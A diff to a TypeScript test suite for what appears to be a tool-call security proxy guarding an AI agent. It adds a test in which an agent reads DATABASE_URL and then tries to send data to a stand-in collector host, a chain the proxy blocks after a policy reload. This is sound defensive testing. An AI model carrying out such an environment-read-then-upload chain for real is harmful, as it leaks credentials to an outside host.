@@ -23,13 +23,13 @@ afterEach(async () => {
 
 const TOOLS = '  allowed_tools: [read_page, get_env, fetch, write_file, run_command]\n';
 
-async function start(extra = ''): Promise<{ home: TestHome; client: ProxiedClient['client'] }> {
+async function start(extra = ''): Promise<{ dir: string; home: TestHome; client: ProxiedClient['client'] }> {
   const dir = tempDir();
   const home = createTestHome(join(dir, 'home'));
   const policy = writePolicy(dir, TOOLS + extra);
   const proxied = await connectThroughProxy({ home: home.home, policy, server: SERVER });
   open.push(proxied);
-  return { home, client: proxied.client };
+  return { dir, home, client: proxied.client };
 }
 
 function threats(home: TestHome) {
@@ -79,6 +79,16 @@ describe('what the agent sends', () => {
     expect(error.data).toMatchObject({ detector: 'shell' });
     expect(text(await client.callTool({ name: 'run_command', arguments: { command: 'ls -la /home/user/projects' } }))).toContain('ok run_command');
     expect(threats(home)[0]).toMatchObject({ direction: 'upstream', source: 'arguments', action: 'block', tool: 'run_command' });
+  });
+
+  it('a chain begun before the owner saves a policy is refused after it: a reload keeps the session\'s history', async () => {
+    const { dir, home, client } = await start();
+    expect(text(await client.callTool({ name: 'get_env', arguments: { variable: 'DATABASE_URL' } }))).toContain('ok get_env');
+    writePolicy(dir, `${TOOLS}  x-silas-threats:\n    chain_window: 25\n`, 'policy.yaml', { home });
+    await expect.poll(() => verifiedEntries(home).some((e) => e.event === 'aip.policy_reloaded'), { timeout: 15_000 }).toBe(true);
+    const error = await rpcError(client.callTool({ name: 'fetch', arguments: { url: 'https://collector.example.net/upload' } }));
+    expect(error.code).toBe(-32001);
+    expect(String((error.data as { reason: string }).reason)).toMatch(/completes the chain "environment read, then a network send"/);
   });
 
   it('a chain is refused at the call that completes it, and the same calls in a harmless order pass', async () => {
